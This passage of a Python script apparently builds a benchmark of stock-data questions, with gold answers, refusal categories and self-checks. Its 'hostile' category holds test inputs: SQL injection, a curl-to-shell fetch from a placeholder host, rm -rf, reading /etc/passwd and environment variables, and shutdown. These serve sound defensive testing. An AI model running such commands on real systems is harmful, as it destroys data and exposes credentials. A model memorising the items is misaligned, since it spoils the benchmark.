A(K, "Which stock lost the most from the March 10, 2000 close to the Dec 29, 2000 close?",
  lambda: gainers('2000-03-10', '2000-12-29', 1, 'asc', singular=True))
A(K, "Bottom 3 performers from the close of 2011-12-30 to the close of 2012-12-31",
  lambda: gainers('2011-12-30', '2012-12-31', 3, 'asc'))

# named-comparison (8)
K = 'named-comparison'
A(K, "Which rose more over 2016, Nvidia or AMD, from the 2015-12-31 close to the 2016-12-30 close?",
  lambda: named(['NVDA', 'AMD'], lambda s: change(s, '2015-12-31', '2016-12-30'), 'higher'))
A(K, "Compare Apple and Microsoft closing prices on 2017-11-10.",
  lambda: named(['AAPL', 'MSFT'], lambda s: val(s, '2017-11-10', 'close'), 'compare'))
A(K, "Did FXY or DBB have more volume on June 26, 2025?",
  lambda: named(['FXY', 'DBB'], lambda s: val(s, '2025-06-26', 'volume'), 'higher'))
A(K, "Amazon vs Alphabet: closing price on June 30, 2017",
  lambda: named(['AMZN', 'GOOGL'], lambda s: val(s, '2017-06-30', 'close'), 'compare'))
A(K, "compare INDA and DBB daily returns on 2025-05-12",
  lambda: named(['INDA', 'DBB'], lambda s: ret(s, '2025-05-12'), 'compare'))
A(K, "Who had the bigger opening gap on 2016-10-18, Netflix or Intel?",
  lambda: named(['NFLX', 'INTC'], lambda s: gap(s, '2016-10-18'), 'higher'))
A(K, "Coca-Cola vs JPMorgan average daily volume in 2016",
  lambda: named(['KO', 'JPM'], lambda s: aggregate([b[5] for b in win(s, *year(2016))], 'mean'), 'compare'))
A(K, "Which had the larger intraday range on Aug 5 2024, FXY or DBB?",
  lambda: named(['FXY', 'DBB'], lambda s: rng(s, '2024-08-05'), 'higher'))

# grouped-by-period (8)
K = 'grouped-by-period'
A(K, "Average close of Coca-Cola by month for 2016", lambda: grouped('KO', [month(2016, m) for m in range(1, 13)], 'close', 'mean'))
A(K, "Total DBB volume for each month of Q2 2025", lambda: grouped('DBB', [month(2025, m) for m in (4, 5, 6)], 'volume', 'sum'))
A(K, "Netflix's yearly high for each year 2012 through 2016", lambda: grouped('NFLX', [year(y) for y in range(2012, 2017)], 'high', 'max'))
A(K, "FXY month-end closes, January through June 2025", lambda: grouped('FXY', [month(2025, m) for m in range(1, 7)], 'close', 'last'))
A(K, "Quarterly average closing price of Tesla in 2015", lambda: grouped('TSLA', [quarter(2015, q) for q in range(1, 5)], 'close', 'mean'))
A(K, "INDA's weekly closing prices for the four weeks starting March 3, 10, 17 and 24, 2025",
  lambda: grouped('INDA', [week_of(d) for d in ('2025-03-03', '2025-03-10', '2025-03-17', '2025-03-24')], 'close', 'last'))
A(K, "Microsoft's average daily volume per year, 2013-2016", lambda: grouped('MSFT', [year(y) for y in range(2013, 2017)], 'volume', 'mean'))
A(K, "DBB average close for each quarter of 2024", lambda: grouped('DBB', [quarter(2024, q) for q in range(1, 5)], 'close', 'mean'))

# period-over-period (8)
K = 'period-over-period'
A(K, "How did FXY's average daily volume last month compare with the month before?",
  lambda: pop('FXY', LAST_MONTH, MONTH_BEFORE_LAST, 'volume'))
A(K, "Apple's average close in Q4 2016 versus Q3 2016?", lambda: pop('AAPL', quarter(2016, 4), quarter(2016, 3), 'close'))
A(K, "DBB average closing price last quarter vs the quarter before", lambda: pop('DBB', LAST_QUARTER, quarter(2025, 1), 'close'))
A(K, "Was Tesla's average daily volume in 2016 higher or lower than in 2015, and by how much?",
  lambda: pop('TSLA', year(2016), year(2015), 'volume'))
A(K, "INDA: average close in May 2025 compared to April 2025", lambda: pop('INDA', month(2025, 5), month(2025, 4), 'close'))
A(K, "Amazon's mean close in the first half of 2017 relative to the second half of 2016",
  lambda: pop('AMZN', ('2017-01-01', '2017-06-30'), ('2016-07-01', '2016-12-31'), 'close'))
A(K, "DBB average close this month versus last month", lambda: pop('DBB', THIS_MONTH, LAST_MONTH, 'close'))
A(K, "IBM average daily volume in October 2017 vs September 2017", lambda: pop('IBM', month(2017, 10), month(2017, 9), 'volume'))

# moving-average (10: 5 values, 5 crossovers)
K = 'moving-average'
A(K, "Microsoft's 50-day moving average on 2017-06-30?", lambda: ma_value('MSFT', '2017-06-30', 50))
A(K, "What's FXY's 20-day simple moving average as of today?", lambda: ma_value('FXY', TODAY, 20))
A(K, "200-day MA for Apple at the end of 2016 (Dec 30)", lambda: ma_value('AAPL', '2016-12-30', 200))
A(K, "DBB 10-day SMA on April 30, 2025", lambda: ma_value('DBB', '2025-04-30', 10))
A(K, "INDA's 20-day moving average at its latest session", lambda: ma_value('INDA', INDA_LAST, 20))
A(K, "When did Apple's 50-day moving average last cross above its 200-day before September 1, 2016?",
  lambda: cross('AAPL', 50, 200, 'above', 'last', before='2016-09-01'))
A(K, "Date of Apple's first death cross (50-day dropping below the 200-day) in 2015?",
  lambda: cross('AAPL', 50, 200, 'below', 'first', d1='2015-01-01', d2='2015-12-31'))
A(K, "When did FXY's close first move above its 50-day moving average in 2025?",
  lambda: cross('FXY', 0, 50, 'above', 'first', d1='2025-01-01', d2=TODAY))
A(K, "On what date after March 1, 2025 did DBB's 20-day MA first cross below its 50-day MA?",
  lambda: cross('DBB', 20, 50, 'below', 'first', d1='2025-03-02', d2=TODAY))
A(K, "Most recent golden cross for Nvidia before January 1, 2017?",
  lambda: cross('NVDA', 50, 200, 'above', 'last', before='2017-01-01'))

# threshold-count (8)
K = 'threshold-count'
A(K, "How many days in 2016 did Nvidia close above $50?", lambda: thr_count('NVDA', *year(2016), 'close', '>', 50))
A(K, "How many sessions so far this year did DBB gain more than 2%?", lambda: thr_count('DBB', *THIS_YEAR, 'return', '>', 0.02))
A(K, "In 2024, on how many days did FXY fall by more than 1%?", lambda: thr_count('FXY', *year(2024), 'return', '<', -0.01))
A(K, "Number of days in 2008 when JPMorgan moved more than 5% in either direction",
  lambda: thr_count('JPM', *year(2008), 'return', 'abs', 0.05))
A(K, "Between March 1 and June 24, 2025, how many times did INDA close above 53?",
  lambda: thr_count('INDA', '2025-03-01', '2025-06-24', 'close', '>', 53))
A(K, "On how many trading days in 2017 (to Nov 10) did Apple's volume exceed 50 million shares?",
  lambda: thr_count('AAPL', '2017-01-01', '2017-11-10', 'volume', '>', 50e6))
A(K, "How many up days did Tesla have in 2016?", lambda: thr_count('TSLA', *year(2016), 'return', '>', 0))
A(K, "Count the 2024 sessions where FXY closed below 61.", lambda: thr_count('FXY', *year(2024), 'close', '<', 61))

# cross-stock-count (8)
K = 'cross-stock-count'
A(K, "How many stocks closed higher on 2016-11-09?", lambda: xcount('2016-11-09', 'return', '>', 0))
A(K, "How many of the stocks fell more than 5% on September 29, 2008?", lambda: xcount('2008-09-29', 'return', '<', -0.05))
A(K, "On Oct 13 2008, how many stocks gained over 10%?", lambda: xcount('2008-10-13', 'return', '>', 0.10))
A(K, "How many of the ETFs finished up on April 9, 2025?", lambda: xcount('2025-04-09', 'return', '>', 0))
A(K, "How many tickers gapped down by more than 3% at the open on 2015-08-24?", lambda: xcount('2015-08-24', 'gap', '<', -0.03))
A(K, "How many stocks closed above their 50-day moving average on 2017-11-10?", lambda: xcount('2017-11-10', 'above_ma50', '>', 0))
A(K, "On 2016-06-24, how many stocks dropped more than 4%?", lambda: xcount('2016-06-24', 'return', '<', -0.04))
A(K, "How many stocks traded more than 50 million shares on 2017-06-09?", lambda: xcount('2017-06-09', 'volume', '>', 50e6))

# volatility (8)
K = 'volatility'
A(K, "What was the volatility of Apple's daily returns in 2016?", lambda: volatility('AAPL', *year(2016)))
A(K, "How volatile was FXY in 2024 (std dev of daily returns)?", lambda: volatility('FXY', *year(2024)))
A(K, "Standard deviation of DBB's daily returns last quarter", lambda: volatility('DBB', *LAST_QUARTER))
A(K, "Tesla daily return volatility for 2017 through Nov 10", lambda: volatility('TSLA', '2017-01-01', '2017-11-10'))
A(K, "INDA's daily volatility from March 3 to June 24, 2025", lambda: volatility('INDA', '2025-03-03', '2025-06-24'))
A(K, "stdev of JPM daily returns during 2008?", lambda: volatility('JPM', *year(2008)))
A(K, "Coca-Cola's daily-return volatility in 2015, not annualised", lambda: volatility('KO', *year(2015)))
A(K, "How volatile was Netflix during 2016?", lambda: volatility('NFLX', *year(2016)))

# correlation (8)
K = 'correlation'
A(K, "Correlation between Apple and Microsoft daily returns in 2017, through Nov 10?", lambda: correlation('AAPL', 'MSFT', '2017-01-01', '2017-11-10'))
A(K, "How correlated were FXY and DBB daily returns in Q2 2024?", lambda: correlation('FXY', 'DBB', *quarter(2024, 2)))
A(K, "Return correlation of FXY and DBB from March 1 to December 31, 2024", lambda: correlation('FXY', 'DBB', '2024-03-01', '2024-12-31'))
A(K, "IBM vs Microsoft: correlation of daily returns in 2011", lambda: correlation('IBM', 'MSFT', *year(2011)))
A(K, "What was the correlation between JPMorgan and Coca-Cola daily moves in 2015?", lambda: correlation('JPM', 'KO', *year(2015)))
A(K, "Pearson correlation of Facebook and Google (GOOGL) daily returns in 2015", lambda: correlation('FB', 'GOOGL', *year(2015)))
A(K, "How closely did Nvidia and AMD move together in 2010? Give the return correlation.", lambda: correlation('NVDA', 'AMD', *year(2010)))
A(K, "Correlation of daily returns, Amazon and Netflix, calendar 2014", lambda: correlation('AMZN', 'NFLX', *year(2014)))

# streak (8)
K = 'streak'
A(K, "Longest run of consecutive up days for Apple in 2017?", lambda: streak('AAPL', '2017-01-01', '2017-11-10', True))
A(K, "What was FXY's longest losing streak in 2024?", lambda: streak('FXY', *year(2024), False))
A(K, "Longest string of daily gains for DBB this year", lambda: streak('DBB', *THIS_YEAR, True))
A(K, "Tesla's longest streak of down days in 2014", lambda: streak('TSLA', *year(2014), False))
A(K, "INDA's longest winning streak between March 3 and June 24, 2025?", lambda: streak('INDA', '2025-03-03', '2025-06-24', True))
A(K, "How many days in a row did Microsoft rise at most during 2013, and when?", lambda: streak('MSFT', *year(2013), True))
A(K, "Longest stretch of consecutive declines for IBM in 2017", lambda: streak('IBM', '2017-01-01', '2017-11-10', False))
A(K, "Coca-Cola's longest winning streak of 2016?", lambda: streak('KO', *year(2016), True))

# vwap-minute (10: 4 day VWAP, 3 window VWAP, 3 bar lists)
K = 'vwap-minute'
A(K, "What was FXY's VWAP on 2025-06-05?", lambda: vwap_day('FXY', '2025-06-05'))
A(K, "DBB volume-weighted average price today?", lambda: vwap_day('DBB', TODAY))
A(K, "INDA VWAP for the session on May 12, 2025", lambda: vwap_day('INDA', '2025-05-12'))
A(K, "What was the VWAP of the yen ETF on Aug 5, 2024?", lambda: vwap_day('FXY', '2024-08-05'))
A(K, "DBB VWAP between 10:00 and 11:00 New York time on 2025-04-09",
  lambda: vwap_window('DBB', '2025-04-09', '10:00', '11:00', edge_checked=True))
A(K, "INDA VWAP over the first 30 minutes of trading on June 2, 2025",
  lambda: vwap_window('INDA', '2025-06-02', '09:30', '09:59'))
A(K, "FXY VWAP from 14:00 through 14:59 ET yesterday", lambda: vwap_window('FXY', YESTERDAY, '14:00', '14:59'))
A(K, "Show INDA's one-minute bars from 09:30 to 09:34 on 2025-06-02, inclusive.",
  lambda: minute_rows('INDA', '2025-06-02', '09:30', '09:34', OHLCV))
A(K, "List FXY's minute closes between 15:50 and 15:59 yesterday, both ends included",
  lambda: minute_rows('FXY', YESTERDAY, '15:50', '15:59', ['close']))
A(K, "DBB minute-by-minute volume from 9:30 through 9:45 am on April 7, 2025",
  lambda: minute_rows('DBB', '2025-04-07', '09:30', '09:45', ['volume']))

# period-candle (8)
K = 'period-candle'
A(K, "Weekly OHLCV for DBB for the week of June 16, 2025", lambda: candle('DBB', *week_of('2025-06-16')))
A(K, "Tesla's monthly candle for March 2016", lambda: candle('TSLA', *month(2016, 3)))
A(K, "Give me FXY's open, high, low, close and total volume for last quarter as one bar", lambda: candle('FXY', *LAST_QUARTER))
A(K, "Apple's OHLC and volume for the week of 2016-06-20", lambda: candle('AAPL', *week_of('2016-06-20')))
A(K, "INDA monthly bar for May 2025", lambda: candle('INDA', *month(2025, 5)))
A(K, "Netflix open/high/low/close/volume for January 2016 as a whole", lambda: candle('NFLX', *month(2016, 1)))
A(K, "Last week's candle for FXY?", lambda: candle('FXY', *LAST_WEEK))
A(K, "Amazon's 2016 yearly OHLCV bar", lambda: candle('AMZN', *year(2016)))

# distance-from-high (8)
K = 'distance-from-high'
A(K, "How far below its all-time closing high was Netflix on 2012-09-25?", lambda: dist_high('NFLX', '2012-09-25'))
A(K, "Where does FXY stand relative to its all-time high close as of today?", lambda: dist_high('FXY', TODAY))
A(K, "How far off its record close was Intel on October 9, 2002?", lambda: dist_high('INTC', '2002-10-09'))
A(K, "DBB's drawdown from its peak close as of April 8, 2025", lambda: dist_high('DBB', '2025-04-08'))
A(K, "What % below its all-time high was INDA at its latest close?", lambda: dist_high('INDA', INDA_LAST))
A(K, "Apple's distance from its highest close ever, on 2013-04-19", lambda: dist_high('AAPL', '2013-04-19'))
A(K, "How far was AMD from its all-time closing high at the end of 2012 (Dec 31)?", lambda: dist_high('AMD', '2012-12-31'))
A(K, "Microsoft's percentage below its record close on March 9, 2009", lambda: dist_high('MSFT', '2009-03-09'))

# coverage (10)
K = 'coverage'
A(K, "What date range does the Tesla data cover?", lambda: first(DATES['TSLA'][0], DATES['TSLA'][-1]))
A(K, "When does INDA's history begin?", lambda: first(DATES['INDA'][0]))
A(K, "Which tickers do you have data for?", lambda: rows_gold([[s] for s in SYMS], 'set', True))
A(K, "Earliest date available for IBM?", lambda: first(DATES['IBM'][0]))
A(K, "What's the last date you have for INDA?", lambda: first(DATES['INDA'][-1]))
A(K, "Which stocks have price history going back before 1980?",
  lambda: rows_gold([[s] for s in SYMS if DATES[s][0] < '1980-01-01'], 'set', True))
A(K, "What period does the Facebook data span?", lambda: first(DATES['FB'][0], DATES['FB'][-1]))
A(K, "First trading day on file for DBB", lambda: first(DATES['DBB'][0]))
A(K, "Which symbols come with one-minute intraday bars?", lambda: rows_gold([[s] for s in SYMS if s in MIN], 'set', True))
A(K, "How far back does Amazon's price history go?", lambda: first(DATES['AMZN'][0]))

# out-of-scope (10): measures the data does not hold, asked about symbols that are in the data
K = 'out-of-scope'
R(K, "What's Apple's price-to-earnings ratio at the end of 2016?")
R(K, "How much did Coca-Cola pay in dividends per share in 2015?")
R(K, "What was Microsoft's market capitalization on 2017-06-30?")
R(K, "How much revenue did Netflix report for Q3 2017?")
R(K, "What is the consensus analyst price target for Nvidia?")
R(K, "Where will Tesla be trading a month from now?")
R(K, "What was the implied volatility on Amazon's June 2017 call options?")
R(K, "Summarize the news headlines that moved FXY on 2024-08-05.")
R(K, "How positive was social-media sentiment toward Facebook during 2016?")
R(K, "What is JPMorgan's book value per share and its debt-to-equity ratio?")

# unknown-symbol (10): otherwise answerable questions about companies or funds with no data here
K = 'unknown-symbol'
R(K, "What did Oracle close at on 2016-05-02?")
R(K, "Show me SPY's last five closes.")
R(K, "What's the VWAP for VTI today?")
R(K, "How did XYZQ perform in 2016?")
R(K, "Which did better in 2016, Apple or PepsiCo (PEP)?")
R(K, "What is the 52-week high for EEM as of today?")
R(K, "Average closing price of Walmart (WMT) in 2015?")
R(K, "What was SLV's daily return yesterday?")
R(K, "Cisco's biggest one-day drop in 2008?")
R(K, "QWXZ trading volume on 2017-11-10")

# hostile (10): SQL or shell typed as a question; the last four are wrapped around a real-looking question
K = 'hostile'
R(K, "'; DROP TABLE daily_bars; --")
R(K, "SELECT * FROM prices; DELETE FROM prices WHERE 1=1;")
R(K, "$(curl -s http://example.invalid/payload.sh | sh)")
R(K, "rm -rf / --no-preserve-root")
R(K, "cat /etc/passwd && env")
R(K, "UPDATE bars SET close = 0 WHERE symbol = 'TSLA';")
R(K, "What was AAPL's close on 2016-06-24'; DROP TABLE bars; --")
R(K, "Show MSFT volume for 2017-11-10 && rm -rf ~/*")
R(K, "FXY VWAP today `shutdown -h now`")
R(K, "Average close of KO in 2016 UNION SELECT username, password FROM users --")

# not-understood (10): not questions about the data
K = 'not-understood'
R(K, "hello there")
R(K, "Can you write me a haiku about autumn leaves?")
R(K, "asdf qwerty zxcv")
R(K, "What time is it in Tokyo right now?")
R(K, "Who won the 1998 World Cup?")
R(K, "???")
R(K, "Recommend a good pizza place near Wall Street.")
R(K, "How do I reset my email password?")
R(K, "blue seventeen sideways purple")
R(K, "Translate 'good morning' into Spanish.")

# ---------------------------------------------------------------------------------------------------------------
# Self-checks and output
PLANNED = {
    'latest-rows': 8, 'day-value': 8, 'date-range-rows': 8, 'window-aggregate': 8, 'extreme-day': 8, '52-week': 8,
    'change-between': 8, 'daily-return-or-gap': 9, 'biggest-move-day': 8, 'cross-sectional-ranking': 9,
    'gainers-losers': 8, 'named-comparison': 8, 'grouped-by-period': 8, 'period-over-period': 8,
    'moving-average': 10, 'threshold-count': 8, 'cross-stock-count': 8, 'volatility': 8, 'correlation': 8,
    'streak': 8, 'vwap-minute': 10, 'period-candle': 8, 'distance-from-high': 8, 'coverage': 10,
    'out-of-scope': 10, 'unknown-symbol': 10, 'hostile': 10, 'not-understood': 10,
}
REFUSALS = ('out-of-scope', 'unknown-symbol', 'hostile', 'not-understood')
FORMAT_EXAMPLES = {"which 3 stocks had the widest trading range on 2016-06-24?", "what is apple's p/e ratio?"}
DATE_RE = re.compile(r'^\d{4}-\d{2}-\d{2}$')
MIN_RE = re.compile(r'^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$')

def check_gold(g):
    need(isinstance(g, dict) and set(g) == {'rows', 'match', 'exact_rows'}, 'gold keys')
    need(g['match'] in ('ordered', 'set', 'first'), 'match')
    need(isinstance(g['exact_rows'], bool), 'exact_rows')
    need(isinstance(g['rows'], list) and len(g['rows']) > 0, 'empty rows')
    if g['match'] == 'first':
        need(len(g['rows']) == 1 and not g['exact_rows'], 'first-match gold must be one row')
    for r in g['rows']:
        need(isinstance(r, list) and len(r) > 0, 'empty row')
        for c in r:
            if isinstance(c, str):
                if DATE_RE.match(c):
                    need(c in ALLDATES, f'date {c} not in the data')
                elif MIN_RE.match(c):
                    need(c in ALLMIN, f'minute {c} not in the data')
                else:
                    need(c in SYMS, f'string cell {c!r} is neither a date, a minute nor a symbol')
            else:
                need(isinstance(c, (int, float)) and not isinstance(c, bool) and math.isfinite(c), 'bad number')
    if g['match'] == 'set':
        keys = [json.dumps(r) for r in g['rows']]
        need(len(set(keys)) == len(keys), 'duplicate rows in a set')

def main():
    failures = []
    out = []
    counts = {}
    seen = set()
    for n, q in enumerate(Q, 1):
        qid = f'b{n:03d}'
        text = q['question']
        try:
            need(q['kind'] in PLANNED, 'unknown kind')
            need(isinstance(text, str) and text.strip() == text and len(text) > 1, 'question text')
            need(text.lower() not in seen, 'duplicate question')
            need(text.lower() not in FORMAT_EXAMPLES, 'copied from FORMAT.md')
            seen.add(text.lower())
            rec = {'id': qid, 'kind': q['kind'], 'question': text}
            if 'refusal' in q:
                need(q['refusal'] in REFUSALS and q['kind'] == q['refusal'], 'refusal kind')
                rec['answerable'] = False
                rec['refusal'] = q['refusal']
            else:
                need(q['kind'] not in REFUSALS, 'answerable refusal kind')
                g = q['fn']()
                g = {'rows': [[rnd(c) for c in r] for r in g['rows']], 'match': g['match'], 'exact_rows': g['exact_rows']}
                check_gold(g)
                rec['answerable'] = True
                rec['gold'] = g
            out.append(rec)
            counts[q['kind']] = counts.get(q['kind'], 0) + 1
        except CheckFail as e:
            failures.append(f'{qid} [{q["kind"]}] {text!r}: {e}')
    if not failures:
        for k, v in PLANNED.items():
            if counts.get(k, 0) != v:
                failures.append(f'kind {k}: {counts.get(k, 0)} questions, planned {v}')
        n_ans = sum(1 for r in out if r['answerable'])
        if n_ans != 200 or len(out) != 240:
            failures.append(f'{n_ans} answerable of {len(out)}')
    if failures:
        print('CHECKS FAILED:')
        for f in failures:
            print('  ' + f)
        sys.exit(1)
    with open(os.path.join(HERE, 'questions.jsonl'), 'w') as f:
        for r in out:
            f.write(json.dumps(r) + '\n')
    for k in PLANNED:
        print(f'{k:25s} {counts[k]}')
    print(f'{len(out)} questions ({sum(r["answerable"] for r in out)} answerable); all checks passed')

if __name__ == '__main__':
    main()
